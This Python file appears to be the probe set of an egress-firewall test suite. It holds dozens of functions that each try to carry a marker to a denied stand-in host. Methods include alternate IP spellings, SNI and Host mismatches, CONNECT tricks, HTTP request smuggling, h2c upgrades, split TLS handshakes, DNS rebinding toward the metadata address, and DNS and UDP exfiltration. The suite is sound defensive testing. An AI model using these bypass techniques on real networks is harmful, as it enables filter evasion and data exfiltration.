# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways to reach a host that is not allowed: each carries a mark to it.

    probes.py NAME MARK

Each is written as an attacker would write it who knows the doors. Without the firewall the same line reaches its
host: that is checked by the same test. PROBE_PROXY is the forward proxy to try: keyward's inside, one that checks
nothing outside.
"""
# What they have in common with other attempts is before this, in the same file: escape/src/driver/kit.py.
name, MARK = sys.argv[1], sys.argv[-1]
PROXY = os.environ.get("PROBE_PROXY", "127.0.0.1:1")
DENIED = "203.0.113.20"
DENIED_V6 = "2001:db8::20"

probes = {}


def probe(function):
    probes[function.__name__] = function
    return function


# By address.

@probe
def address_tls():
    get(tls(tcp(DENIED, 443), "denied.test"), "denied.test")


@probe
def address_http():
    get(tcp(DENIED, 80), "denied.test")


@probe
def address_http_with_an_allowed_host():
    get(tcp(DENIED, 80), "allowed.test")


@probe
def address_tcp():
    tcp(DENIED, 5555).sendall(MARK.encode())


@probe
def address_mapped():
    sock = socket.socket(I6)
    sock.settimeout(PATIENCE)
    sock.connect(("::ffff:" + DENIED, 80))
    get(sock, "denied.test")


@probe
def address_v6():
    sock = socket.socket(I6)
    sock.settimeout(PATIENCE)
    sock.connect((DENIED_V6, 80))
    get(sock, "denied.test")


def by_spelling(spelling):
    """Spellings that only `inet_aton(3)` takes."""
    get(tcp(spelling, 80), "denied.test")


def absolute_by_spelling(spelling):
    absolute(f"http://{spelling}/" + MARK, spelling)


def connect_by_spelling(spelling):
    get(tun(spelling + ":80"), "denied.test")


SPELLINGS = {
    "decimal": "3405803796", "hex": "0xcb007114", "octal": "0313.0.0161.024", "short": "203.0.28948",
    "dotted_hex": "0xcb.0x00.0x71.0x14", "full_stops": "203.0.113.20.",
}
for kind, spelling in SPELLINGS.items():
    if kind != "full_stops":
        probes["address_" + kind] = lambda spelling=spelling: by_spelling(spelling)
    probes["absolute_" + kind] = lambda spelling=spelling: absolute_by_spelling(spelling)
    probes["connect_" + kind] = lambda spelling=spelling: connect_by_spelling(spelling)


@probe
def address_fast_open():
    sock = socket.socket()
    request = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode()
    sock.sendto(request, 0x20000000, (DENIED, 80))  # MSG_FASTOPEN
    sock.settimeout(PATIENCE)
    sock.recv(100)


# By another name's SNI or Host.

@probe
def allowed_sni_to_a_denied_address():
    get(tls(tcp(DENIED, 443), "allowed.test"), "allowed.test")


@probe
def denied_sni_through_an_allowed_name():
    get(tls(tcp("allowed.test", 443), "denied.test"), "denied.test", "/" + MARK)


@probe
def denied_host_through_an_allowed_name():
    get(tcp("allowed.test", 80), "denied.test")


@probe
def denied_name_tls():
    get(tls(tcp("denied.test", 443), "denied.test"), "denied.test")


@probe
def denied_name_http():
    get(tcp("denied.test", 80), "denied.test")


@probe
def denied_name_ssh():
    sock = tcp("denied.test", 22)
    sock.recv(100)
    sock.sendall(MARK.encode())


@probe
def denied_port_of_an_allowed_name():
    tcp("allowed.test", 5555).sendall(MARK.encode())


@probe
def opaque_bytes_at_the_tls_port():
    sock = tcp("allowed.test", 443)
    sock.sendall(b"\0" + MARK.encode())
    time.sleep(0.3)


@probe
def no_sni_to_a_denied_address():
    get(tls(tcp(DENIED, 443), None), "allowed.test")


@probe
def tls_at_another_port():
    get(tls(tcp("denied.test", 8443), "allowed.test"), "allowed.test")


@probe
def host_with_a_port():
    get(tcp("allowed.test", 80), "denied.test:80")


@probe
def host_twice():
    get(tcp("allowed.test", 80), "allowed.test", more="Host: denied.test\r\n")


@probe
def host_folded():
    get(tcp("allowed.test", 80), "allowed.test\r\n denied.test")


@probe
def host_in_the_target():
    get(tcp("allowed.test", 80), "allowed.test", f"http://denied.test/{MARK}")


@probe
def host_taken_away():
    get(tcp("allowed.test", 80), "denied.test", more="Connection: host\r\n")


@probe
def no_host():
    sock = tcp("allowed.test", 80)
    sock.sendall(f"GET /{MARK} HTTP/1.0\r\n\r\n".encode())
    sock.recv(100)


@probe
def http_0_9():
    sock = tcp("allowed.test", 80)
    sock.sendall(f"GET /{MARK}\r\n\r\n".encode())
    sock.recv(100)


@probe
def method_in_lower_case():
    sock = tcp("allowed.test", 80)
    sock.sendall(f"get /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    sock.recv(100)


@probe
def request_in_pieces():
    sock = tcp("allowed.test", 80)
    for piece in ("G", "ET /" + MARK, " HTTP/1.1\r\nHost: den", "ied.test\r\n\r\n"):
        sock.sendall(piece.encode())
        time.sleep(0.2)
    sock.recv(100)


@probe
def trace():
    sock = tcp("allowed.test", 80)
    sock.sendall(f"TRACE /{MARK} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
    sock.recv(100)


# By CONNECT.

@probe
def connect_denied():
    get(tls(tun("denied.test:443"), "denied.test"), "denied.test")


@probe
def connect_address():
    get(tls(tun(DENIED + ":443"), "allowed.test"), "allowed.test")


@probe
def connect_other_port():
    tun("allowed.test:5555").sendall(MARK.encode())


@probe
def connect_denied_host_header():
    get(tls(tun("denied.test:443", "allowed.test:443"), "allowed.test"), "allowed.test")


@probe
def connect_allowed_sni_denied():
    get(tls(tun("allowed.test:443"), "denied.test"), "denied.test")


@probe
def connect_plain_with_a_denied_host():
    get(tun("allowed.test:80"), "denied.test")


@probe
def connect_trailing_dot():
    get(tls(tun("denied.test.:443"), "denied.test"), "denied.test")


@probe
def connect_nul():
    get(tls(tun("denied.test\0.allowed.test:443"), "denied.test"), "denied.test")


@probe
def connect_userinfo():
    get(tls(tun("allowed.test@denied.test:443"), "denied.test"), "denied.test")


@probe
def connect_and_second_host():
    sock = tun("allowed.test:80")
    get(sock, "allowed.test", "/first")
    get(sock, "denied.test")


@probe
def connect_v6():
    get(tun(f"[{DENIED_V6}]:80"), "denied.test")


@probe
def connect_mapped():
    get(tun(f"[::ffff:{DENIED}]:80"), "denied.test")


@probe
def connect_percent():
    get(tun("denied%2etest:80"), "denied.test")


@probe
def connect_loopback_of_the_host():
    get(tun("127.0.0.1:80"), "localhost")


@probe
def connect_localhost():
    get(tun("localhost:80"), "localhost")


@probe
def connect_unspecified():
    get(tun("0.0.0.0:80"), "localhost")


@probe
def connect_name_of_the_host():
    get(tun("host.docker.internal:80"), "localhost")


@probe
def connect_ssh():
    sock = tun("allowed.test:22")
    sock.recv(100)
    sock.sendall(MARK.encode())


@probe
def connect_with_bytes_behind_it():
    sock = tcp(*place(PROXY))
    sock.sendall(f"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"
                 f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    time.sleep(0.5)


@probe
def connect_denied_with_bytes_behind_it():
    sock = tcp(*place(PROXY))
    sock.sendall(f"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n"
                 f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    time.sleep(0.5)


@probe
def connect_in_a_tunnel():
    sock = tun("allowed.test:3128")
    sock.sendall(b"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n")
    sock.recv(100)
    get(sock, "denied.test")


@probe
def connect_smtp():
    sock = tun("denied.test:25")
    sock.recv(100)
    sock.sendall(MARK.encode())


# By absolute form.

@probe
def absolute_denied():
    absolute("http://denied.test/" + MARK, "denied.test")


@probe
def absolute_denied_with_an_allowed_host():
    absolute("http://denied.test/" + MARK, "allowed.test")


@probe
def absolute_userinfo():
    absolute("http://allowed.test@denied.test/" + MARK, "allowed.test")


@probe
def absolute_address():
    absolute(f"http://{DENIED}/" + MARK, "allowed.test")


@probe
def absolute_case_and_dot():
    absolute("http://DENIED.Test./" + MARK, "denied.test")


@probe
def absolute_punycode():
    absolute("http://xn--bcher-kva.test/" + MARK, "xn--bcher-kva.test")


@probe
def absolute_percent():
    absolute("http://%64enied.test/" + MARK, "denied.test")


@probe
def absolute_wide_dot():
    absolute("http://denied\u3002test/".encode().decode("latin-1") + MARK, "denied.test")


@probe
def absolute_backslash():
    absolute("http://denied.test\\@allowed.test/" + MARK, "denied.test")


@probe
def absolute_v6():
    absolute(f"http://[{DENIED_V6}]/" + MARK, f"[{DENIED_V6}]")


@probe
def absolute_loopback_of_the_host():
    absolute("http://127.0.0.1/" + MARK, "127.0.0.1")


@probe
def absolute_loopback_v6_mapped():
    absolute("http://[::ffff:127.0.0.1]/" + MARK, "localhost")


@probe
def absolute_rebinding():
    absolute("http://loopback.test/" + MARK, "loopback.test")


@probe
def absolute_metadata():
    absolute("http://169.254.169.254/" + MARK, "169.254.169.254")


@probe
def absolute_scheme_in_capitals():
    absolute("HTTP://denied.test/" + MARK, "denied.test")


@probe
def absolute_ftp():
    absolute("ftp://denied.test:80/" + MARK, "denied.test")


@probe
def origin_form_at_the_proxy():
    sock = tcp(*place(PROXY))
    get(sock, "denied.test", "//denied.test/" + MARK)


@probe
def absolute_to_an_allowed_name_of_a_denied_host():
    absolute("http://allowed.test/" + MARK, "denied.test")


# Later on a connection that began well.

@probe
def second_request():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", "/first")
    get(sock, "denied.test")


@probe
def second_request_at_the_proxy():
    sock = tcp(*place(PROXY))
    get(sock, "allowed.test", "http://allowed.test/first")
    sock.sendall(f"GET http://denied.test/{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
    sock.recv(65536)


@probe
def second_request_pipelined():
    sock = tcp("allowed.test", 80)
    sock.sendall((f"GET /first HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
                  f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n").encode())
    time.sleep(0.5)


@probe
def smuggled_request():
    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    sock = tcp("allowed.test", 80)
    sock.sendall((f"POST /first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n"
                  f"Content-Length: {len(inner)}\r\n\r\n{inner}").encode())
    time.sleep(0.5)


def smuggled(headers):
    """A second request in the body of the first, for who reads the length of it otherwise."""
    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    body = "0\r\n\r\n" + inner
    sock = tcp("allowed.test", 80)
    sock.sendall((f"POST /first HTTP/1.1\r\nHost: allowed.test\r\n"
                  f"{headers.format(length=len(body))}\r\n\r\n{body}").encode("latin-1"))
    time.sleep(0.5)


for kind, headers in {
    "both": "Content-Length: {length}\r\nTransfer-Encoding: chunked",
    "space": "Content-Length: {length}\r\nTransfer-Encoding : chunked",
    "tab": "Transfer-Encoding:\tchunked, identity\r\nContent-Length: {length}",
    "twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: {length}",
    "lengths": "Content-Length: {length}\r\nContent-Length: 5",
    "line_feed": "X: y\nContent-Length: {length}",
}.items():
    probes["smuggled_" + kind] = lambda headers=headers: smuggled(headers)


@probe
def smuggled_in_a_get():
    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
    sock = tcp("allowed.test", 80)
    sock.sendall((f"GET /first HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n{inner}").encode())
    time.sleep(0.5)


@probe
def websocket_that_nobody_accepted():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", "/first", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")
    get(sock, "denied.test")


@probe
def upgrade_to_something_made_up():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", "/first", "Connection: Upgrade\r\nUpgrade: zz\r\n")
    get(sock, "denied.test")


@probe
def http2_prior_knowledge_at_the_proxy():
    sock = tun("allowed.test:80")
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
    time.sleep(0.3)


@probe
def http2_by_upgrade():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", "/first", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
    time.sleep(0.3)


@probe
def http2_prior_knowledge():
    sock = tcp("allowed.test", 80)
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
    time.sleep(0.3)


@probe
def redirect():
    answer = get(tcp("allowed.test", 80), "allowed.test", "/redirect?to=http://denied.test/" + MARK)
    host = answer.split(b"location: http://")[1].split(b"/")[0].decode()
    get(tcp(host, 80), host)


@probe
def header_over_the_limit():
    sock = tcp("allowed.test", 80)
    get(sock, "allowed.test", more="X: " + "a" * 60000 + "\r\n")


# By the handshake.

@probe
def hello_byte_by_byte():
    sock = tcp("allowed.test", 443)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    for byte in hello(MARK + ".test"):
        sock.sendall(bytes([byte]))
    sock.recv(100)


@probe
def hello_oversized():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello(MARK + ".test", pad=20000))
    sock.recv(100)


@probe
def hello_encrypted():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello("allowed.test", struct.pack("!HH", 0xFE0D, len(MARK)) + MARK.encode()))
    sock.recv(100)


@probe
def hello_in_small_records():
    whole = hello(MARK + ".test")[5:]
    sock = tcp("allowed.test", 443)
    for at in range(0, len(whole), 7):
        part = whole[at:at + 7]
        sock.sendall(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part)
    sock.recv(100)


@probe
def hello_with_two_names():
    second = MARK.encode() + b".test"
    sock = tcp("allowed.test", 443)
    sock.sendall(hello("allowed.test", struct.pack("!HHHBH", 0, len(second) + 5, len(second) + 3, 0, len(second)) + second))
    sock.recv(100)


@probe
def hello_with_a_dot():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello("allowed.test.", struct.pack("!HH", 0xABCD, len(MARK)) + MARK.encode()))
    sock.recv(100)


@probe
def hello_with_an_address():
    sock = tcp("allowed.test", 443)
    sock.sendall(hello(DENIED, struct.pack("!HH", 0xABCD, len(MARK)) + MARK.encode()))
    sock.recv(100)


@probe
def hello_late():
    sock = tcp("allowed.test", 443)
    whole = hello(MARK + ".test")
    sock.sendall(whole[:5])
    time.sleep(0.5)
    sock.sendall(whole[5:])
    sock.recv(100)


# By names that lead elsewhere.

@probe
def rebinding():
    get(tcp("private.test", 80), "private.test")


@probe
def rebinding_to_metadata():
    get(tcp("metadata.test", 80), "metadata.test")


@probe
def rebinding_to_loopback():
    get(tcp("loopback.test", 80), "loopback.test")


# By datagrams and DNS.

@probe
def quic():
    sock = socket.socket(I4, UDP)
    sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), (DENIED, 443))


@probe
def quic_to_an_allowed_name():
    sock = socket.socket(I4, UDP)
    sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), ("allowed.test", 443))


def ask(kind, name=".denied.test"):
    sock = socket.socket(I4, UDP)
    sock.settimeout(PATIENCE)
    sock.sendto(question(MARK + name, kind), ("203.0.113.53", 53))
    sock.recv(4096)


for kind in (1, 2, 5, 6, 10, 12, 15, 16, 28, 33, 35, 43, 46, 48, 52, 64, 65, 99, 250, 252, 255, 256, 257, 65280):
    probes[f"dns_type_{kind}"] = lambda kind=kind: ask(kind)


@probe
def dns_below_an_allowed_name():
    sock = socket.socket(I4, UDP)
    sock.settimeout(PATIENCE)
    sock.sendto(question(MARK + ".allowed.test", 1), ("203.0.113.53", 53))
    sock.recv(4096)


@probe
def dns_pointer():
    ask(12, ".in-addr.arpa")


@probe
def dns_pointer_v6():
    ask(12, ".ip6.arpa")


@probe
def dns_mark_in_an_option():
    """A query for an allowed name with something else in its EDNS record."""
    option = struct.pack("!HH", 65001, len(MARK)) + MARK.encode()
    record = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
    query = bytearray(question("allowed.test", 1) + record)
    query[11] = 1
    sock = socket.socket(I4, UDP)
    sock.settimeout(PATIENCE)
    sock.sendto(query, ("203.0.113.53", 53))
    sock.recv(4096)


@probe
def dns_two_questions():
    query = bytearray(question("allowed.test", 1) + question(MARK + ".denied.test", 1)[12:])
    query[5] = 2
    sock = socket.socket(I4, UDP)
    sock.settimeout(PATIENCE)
    sock.sendto(query, ("203.0.113.53", 53))
    sock.recv(4096)


@probe
def dns_update():
    query = bytearray(question(MARK + ".denied.test", 6))
    query[2] = 0x28
    sock = socket.socket(I4, UDP)
    sock.settimeout(PATIENCE)
    sock.sendto(query, ("203.0.113.53", 53))
    sock.recv(4096)


def datagram(kind, to, family=I4):
    sock = socket.socket(family, UDP)
    if kind == "connected":
        sock.connect(to)
        sock.send(MARK.encode())
    else:
        sock.sendto(MARK.encode(), to)


@probe
def datagram_to_an_address():
    datagram("sent", (DENIED, 4433))


@probe
def datagram_connected():
    datagram("connected", (DENIED, 4433))


@probe
def datagram_mapped():
    datagram("sent", ("::ffff:" + DENIED, 4433), I6)


@probe
def datagram_after_an_allowed_one():
    """A socket that is connected to the resolver, and then sends elsewhere."""
    sock = socket.socket(I4, UDP)
    sock.connect(("203.0.113.53", 53))
    sock.sendto(MARK.encode(), (DENIED, 4433))


@probe
def resolved_and_dialled():
    """The name from the workload's own resolver, whatever it is given, and a connection to it."""
    host = "denied.test"
    for _ in range(2):
        try:
            address = socket.getaddrinfo(host, 80, I4)[0][4][0]
        except OSError:
            address = "198.18.0.1"
        get(tcp(address, 80), host)


@probe
def dns_by_tcp():
    sock = tcp("203.0.113.53", 53)
    sock.sendall(struct.pack("!H", 40) + question(MARK + ".denied.test", 1))
    time.sleep(0.3)


@probe
def dns_by_tls():
    sock = tls(tcp("203.0.113.53", 853), "resolver.test")
    get(sock, MARK)


@probe
def dns_by_https():
    get(tls(tcp("203.0.113.53", 443), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)


@probe
def dns_by_https_through_the_proxy():
    get(tls(tun("203.0.113.53:443"), "resolver.test"), "resolver.test", "/dns-query?dns=" + MARK)


if name == "list":
    print("\n".join(probes))
else:
    try:
        probes[name]()
    except Exception as error:
        print(describe(error))
